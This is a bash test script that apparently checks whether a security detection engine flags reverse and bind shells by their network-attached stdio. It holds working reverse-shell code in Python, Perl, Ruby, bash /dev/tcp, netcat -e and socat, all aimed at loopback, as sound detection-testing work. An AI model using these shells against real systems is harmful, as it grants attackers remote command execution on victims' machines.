#!/bin/bash
# desc: reverse and bind shells caught by their effect (a connection on the shell's stdin/stdout), not their command line: bash >& /dev/tcp, nc.traditional -e, busybox nc -e, socat exec:, python/perl/ruby script files that dup2 the socket and run sh, python pty.spawn over the socket, a socat and a busybox bind shell
# mitre: T1059.004, T1059.006, T1071, T1095
# expect: shell_started_on_network_connection*9, network_connection_on_standard_io*8
source "$ATTACK_LIB"
source "$(dirname "$ATTACK_LIB")/netns.sh"

# Script files: nothing on a command line says "reverse shell".
cat >rev.py <<'PY'
import os, socket, subprocess, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])
PY
cat >pty.py <<'PY'
import os, pty, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn(["/bin/sh", "-c", "id; exit"])
PY
cat >rev.pl <<'PL'
use IO::Socket::INET;
my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1:$ARGV[0]") or die;
open(STDIN, "<&", $s); open(STDOUT, ">&", $s); open(STDERR, ">&", $s);
exec "/bin/bash";
PL
cat >rev.rb <<'RB'
require "socket"
c = TCPSocket.new("127.0.0.1", ARGV[0].to_i)
$stdin.reopen(c); $stdout.reopen(c); $stderr.reopen(c)
exec "/bin/sh"
RB

# 1 bash's own /dev/tcp redirection (the shell becomes the shell)
listen_once; timeout 10 bash -c "bash --norc -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null || true
# 2-3 netcats that run the shell themselves (ncat relays through pipes: shell_after_network_connection)
listen_once; timeout 10 nc.traditional 127.0.0.1 "$port" -e /bin/sh || true
listen_once; timeout 10 busybox nc 127.0.0.1 "$port" -e /bin/sh || true
# 4 socat, the shell spelt sh -i
listen_once; timeout 10 socat "TCP4:127.0.0.1:$port" "EXEC:sh -i,stderr" 2>/dev/null || true
# 5-7 scripts in three languages
listen_once; timeout 10 /usr/bin/python3 rev.py "$port" 2>/dev/null || true
listen_once; timeout 10 perl rev.pl "$port" 2>/dev/null || true
listen_once; timeout 10 ruby rev.rb "$port" 2>/dev/null || true
# 8 python keeps the socket and gives the shell a terminal (the shell's stdio is a pty)
listen_once; timeout 10 /usr/bin/python3 pty.py "$port" >/dev/null 2>&1 || true
wait
# 9-10 bind shells: the victim listens, the attacker connects
port=$(free_port)
timeout 10 socat "TCP-LISTEN:$port,bind=127.0.0.1,reuseaddr" EXEC:/bin/bash,stderr &
wait_listen 127.0.0.1 "$port"
printf 'id\nexit\n' | timeout 10 nc -N 127.0.0.1 "$port" >/dev/null || true
# busybox nc listens on every address: in a namespace of our own
netns_create
in_ns timeout 10 busybox nc -l -p 9000 -e /bin/sh &
for i in $(seq 1 100); do in_ns ss -Hltn "sport = :9000" | grep -q . && break; sleep 0.05; done
printf 'id\nexit\n' | timeout 10 nc -N "$PEER" 9000 >/dev/null || true
wait
